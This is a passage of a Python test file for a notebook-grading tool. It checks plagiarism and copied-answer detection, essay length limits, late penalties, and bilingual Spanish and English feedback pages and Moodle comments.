def test_the_courses_own_code_is_not_shared(number):
    code = re.sub(r" *### .*\n?", "", solved(number))
    assert len(code.split("\n")) > 5
    results = [result(name, None, [mark(number, answer=code)]) for name in ("Ana", "Bo")]
    assert oddities.alike(results) == []
    more = "\nextra = [len(str(place)) * 3 + place for place in range(40) if place % 7 > 2 or place == 5]" * 3
    results = [result(name, None, [mark(number, answer=code + more)]) for name in ("Ana", "Bo")]
    assert len(oddities.alike(results)) == 1


@pytest.mark.parametrize(
    ("number", "text", "said"),
    [
        ("R.6", prose(300, 0), ""),
        ("R.6", rubric("R.6"), "hardly a word that is not the question's"),
        ("R.6", f"{rubric('R.6')} {prose(300, 0)}", ""),
        ("2.4.1", free_text(solved("2.4.1")), "words of the course's own answer"),
        ("2.4.1", free_text(solved("2.4.1", "es")), "words of the course's own answer"),
        ("R.6", rubric("R.6", "es"), "hardly a word that is not the question's"),
        ("2.4.1", f"{prose(300, 0)} {free_text(solved('2.4.1'))}", "words of the course's own answer"),
        ("R.6", free_text(solved("R.6")), "words of the course's own answer"),
        ("R.8", SOURCE, ""),
    ],
)
def test_texts_from_the_course_are_flagged(number, text, said):
    (one,) = texts({"Ana": text}, number)
    reasons = [reason for reason in tables.reasons_to_look([one]) if "length" not in reason]
    assert [said in reason for reason in reasons] == ([True] if said else [])
    assert oddities.from_the_course(one["marks"][0] | {"answer": ""}) == ""


def test_a_text_of_another_length_is_flagged_until_it_is_read(tmp_path):
    path, short = tmp_path / "open_marks.csv", texts({"Ana": prose(40, 0), "Bo": prose(250, 0)})
    assert tables.reasons_to_look(short) == ["report: length: R.6 has 40 words, 200 to 700 expected"]
    open_marks.take_open_marks(short, path)
    header, ana, bo = rows_of(path)
    assert header[6:] == ["length", "rubric"]
    assert [row[6] for row in (ana, bo)] == [f"{count} words, 200 to 700 expected" for count in (40, 250)]
    assert ana[7].startswith("Compares with a baseline") and " (2) | " in ana[7]
    fill(path, "3")
    open_marks.take_open_marks(short, path)
    assert [one["marks"][0]["got"] for one in short] == [3, 3]
    assert tables.reasons_to_look(short) == []


def test_the_report_is_not_run_by_itself(tmp_path):
    results = [result(), *texts({"Ana": "One.\n\nTwo <b>."})]
    results[1]["late"] = {"id": "late report", "title": "percent taken off", "points": 100, "got": 10,
                          "status": "late", "answer": "2026-11-20 10:00, 1 day late"}  # fmt: skip
    out = written(results, tmp_path)
    (row,) = csv.DictReader(io.StringIO((out / "grades.csv").read_text("utf-8-sig")))
    assert (row["reproduces 01"], row["reproduces report"]) == ("not run", "not run by itself")
    assert "reproduce</code> runs a student's whole hand-in" in (out / "summary.html").read_text("utf-8")
    page = (out / "feedback" / "ana.html").read_text("utf-8")
    assert "The report is not run by itself" in page and "Notebook report" in page
    assert "<p>One.</p><p>Two &lt;b&gt;.</p>" in page


def test_the_lateness_of_a_report_can_be_changed(tmp_path):
    one = result(notebook="report") | {"path": "x", "modified": datetime(2026, 11, 21, 9).timestamp()}
    (tmp_path / "open_marks.csv").write_text("student,exercise,points,mark,comment\nAna,late report,,5,Ill\n")
    add_times([one], None, datetime(2026, 11, 20, 23, 59), (10, 50))
    assert (one["late"]["id"], one["late"]["got"]) == ("late report", 10)
    assert open_marks.take_open_marks([one], tmp_path / "open_marks.csv") == []
    assert one["late"]["got"] == 5


def test_the_summary_shows_the_most_frequent_message_and_leaves_out_what_waits():
    messages = ["3 of 5 wrong", "4 of 5 wrong", "Other"]
    results = [
        result(str(n), None, [mark(got=0.0, status="not yet", message=one)]) for n, one in enumerate(messages)
    ]
    results += [result("read", None, [mark(), essay()]), result("waits", None, [essay()])]
    results += [result("away", None, [mark(got=0.0, status="not found")], problem="was not submitted")]
    summary = pages._summary(results)
    row = next(row for row in summary["exercises"] if row["id"] == "1.5")
    assert (row["times"], row["wrong"], row["message"], row["blank"]) == (2, 3, "3 of 5 wrong", 0)
    assert summary["bins"] == [3, 0, 0, 0, 0, 0, 0, 0, 0, 1]
    assert summary["waiting"] == 2


def test_the_feedback_is_in_the_language_of_the_submission(tmp_path):
    def one(student, **more):
        return result(student, marks=[mark(got=0.0, status="not yet"), essay()]) | more

    late = {"late": {"id": "late 01", "title": "", "points": 100, "got": 10.0, "status": "late",
                     "answer": "2026-11-26 10:00, 2 days late", "comment": ""},
            "told": True, "handed_in": "2026-11-26 10:00"}  # fmt: skip
    out = written([one("Ana", language="es"), one("Bo", language="en"), one("Cy")], tmp_path)
    spanish, english, other = (
        (out / "feedback" / f"{name}.html").read_text("utf-8") for name in ("ana", "bo", "cy")
    )
    assert '<html lang="es">' in spanish and "<h1>Comentarios para" in spanish
    assert (
        "todavía no</span>" in spanish
        and "1.5 Normalizar un corte" in spanish
        and "Dice qué tienen en común" in spanish
    )  # a criterion of 1.10
    assert english == other.replace("Cy", "Bo") and '<html lang="en">' in english
    absent = one("Ana", language="en") | {"path": ""}
    assert tables.spoken_by([absent, one("Ana", language="es")]) == "es"
    pages.write_pages([one("Ana", language="es") | late], "bubblewrap", tmp_path)
    page = (tmp_path / "feedback" / "ana.html").read_text("utf-8")
    assert "Entregado: 2026-11-26 10:00." in page
    assert "Son 2 días de retraso: se descuenta el 10\u00a0% de los puntos." in page


def test_the_comment_for_moodle_is_in_the_language_of_the_submission():
    own = [result("Ana", marks=[mark(got=1.0, status="not yet", message="Casi {así}.")]) | {"language": "es"}]
    text = platforms._comment(own, tables.sums(own))
    assert text == "<p>1 de 2 puntos</p><ul><li>1.5 Normalizar un corte: 1 de 2. Casi {así}.</li></ul>"
    assert platforms._comment([own[0] | {"language": "en"}], tables.sums(own)).startswith("<p>1 of 2 points")
    own[0]["late"] = {"got": 10.0, "answer": "2026-11-26 10:00, 2 days late"}
    assert "se descuenta el 10\u00a0%: 2 días de retraso" in platforms._comment(own, tables.sums(own))


def test_the_feedback_shows_a_free_text_answer_with_its_rubric_and_comment(tmp_path):
    path = tmp_path / "open_marks.csv"
    path.write_text("student,exercise,points,mark,comment\nAna,1.10,,2,Say how many\n")
    text = (
        written([result(marks=[essay(answer="Because <b>")])], tmp_path) / "feedback" / "ana.html"
    ).read_text()
    assert "Because &lt;b&gt;" in text and "Say how many" in text and "marked by hand" in text
    assert "links slices of one patient" in text


# ---- one notebook, one student ----


def test_one_notebook_alone():
    wrong = "x.pdf is not a notebook"
    found = [
        Submission("Ana", "ana", None, "01_tiny", problem=wrong, notes=[wrong]),
        Submission("Ana", "ana", None, "02_tiny", problem="was not submitted"),
        Submission("Bo", "bo", None, "01_tiny", problem="was not submitted"),
        Submission("Bo", "bo", None, "02_tiny", path="Bo/02.ipynb"),
    ]
    assert [one.problem for one in _graded(found, ["01"])] == [wrong, "was not submitted"]
    assert [one.problem for one in _graded(found, ["02"])] == ["x.pdf is not a notebook", None]
    found[1].problem = "was not submitted"
    assert [one.problem for one in _graded(found, ["02", "01"])][:2] == [wrong, "was not submitted"]
    with pytest.raises(CourseError, match="03: there are 01_tiny, 02_tiny"):
        _graded(found, ["02", "03"])


def test_a_notebook_that_nobody_submitted_does_not_count(capsys):
    names = ("01_tiny", "02_tiny", "report")
    problems = {"Ana": (None, None), "Bo": (None, "was not submitted")}
    found = [
        Submission(student, student, None, name, path="" if problem else "x", problem=problem)
        for student, own in problems.items()
        for name, problem in zip(names, (*own, "was not submitted"), strict=True)
    ]
    assert [one.notebook for one in _graded(found, [])] == ["01_tiny", "02_tiny"] * 2
    assert "Nobody submitted report: left out of all totals" in capsys.readouterr().out
    assert _graded(found, ["01", "02", "report"]) == found  # who wants it to count says so
    found[2].problem = "x.pdf is not a notebook"
    assert _graded(found, []) == found
    missing = [Submission("Ana", "ana", None, name, problem="was not submitted") for name in names]
    assert _graded(missing, []) == missing
    assert capsys.readouterr().out == ""


@pytest.mark.parametrize("rerun", [True, False])
def test_one_student_again_keeps_the_results_of_others(tmp_path, rerun):
    names, parts = ["ana--01_tiny", "ana--02_tiny", "ana-maria--01_tiny"], {"marks": 1, "rerun": 2}
    for name in names:
        write_json(tmp_path / f"{name}.json", parts)
    found = [
        Submission(name, name.lower().replace(" ", "-"), None, "01_tiny") for name in ("Ana", "Ana Maria")
    ]
    _forget(tmp_path, found, None, rerun)
    assert [read_json(tmp_path / f"{name}.json") for name in names] == [parts] * 3
    _forget(tmp_path, found, "ana", rerun)  # with --notebook 01, of which `found` is
    left = {} if rerun else {"rerun": 2}
    assert [read_json(tmp_path / f"{name}.json") for name in names] == [left, parts, parts]
    with pytest.raises(CourseError, match="nobody has this name"):
        _forget(tmp_path, found, "an", rerun)
    _forget(tmp_path / "new", found, "ana", rerun)  # nothing was kept there
    assert not (tmp_path / "new").exists()


def test_tables_of_an_earlier_run_are_not_left_for_upload(tmp_path):
    written([result()], tmp_path, moodle=worksheet(tmp_path / "given.csv"))
    assert (tmp_path / "feedback.zip").exists()
    written([result()], tmp_path)
    assert not (tmp_path / "feedback.zip").exists() and not (tmp_path / "moodle.csv").exists()


def test_an_interruption_is_one_line(tmp_path, monkeypatch, capsys):
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "01_tiny.ipynb").write_text("{}")
    monkeypatch.setattr(command, "submissions", lambda *_: [Submission("Ana", "ana", None, "01_tiny")])
    monkeypatch.setattr(command, "grade_all", Mock(side_effect=KeyboardInterrupt))
    parser = argparse.ArgumentParser()
    add_to(parser.add_subparsers())
    options = ["--out", str(tmp_path / "out"), "--marks-only", "--no-sandbox"]
    assert grade_command(parser.parse_args(["grade", str(tmp_path / "in"), *options])) == 130
    assert capsys.readouterr().err == "\nStopped. The same command resumes.\n"
